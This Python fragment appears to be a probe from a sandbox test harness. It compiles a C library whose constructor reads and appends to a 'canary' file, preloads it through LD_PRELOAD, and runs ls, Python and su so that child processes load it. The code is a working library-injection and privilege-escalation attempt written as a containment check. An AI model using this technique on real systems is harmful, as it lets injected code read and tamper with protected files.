"""Have later children load a library of one's own."""

import shutil

compiler = shutil.which("cc") or shutil.which("gcc")
open("hostile.c", "w").write(
    "#include <fcntl.h>\n#include <unistd.h>\n"
    f'__attribute__((constructor)) void go(void) {{ int f = open("{HOST["canary"]}", O_RDWR | O_APPEND);'
    " char b[500]; int n = read(f, b, 500); write(1, b, n > 0 ? n : 0); write(f, b, 7); }\n"
)
if compiler:
    quietly(
        lambda: subprocess.run([compiler, "-shared", "-fPIC", "-o", "hostile.so", "hostile.c"], timeout=10, check=False)
    )
os.environ["LD_PRELOAD"] = os.path.abspath("hostile.so")
for command in (["/bin/ls"], [sys.executable, "-c", "1"], ["/usr/bin/su", "-c", "id"]):
    quietly(lambda c: subprocess.run(c, timeout=5, check=False, stdin=subprocess.DEVNULL), command)
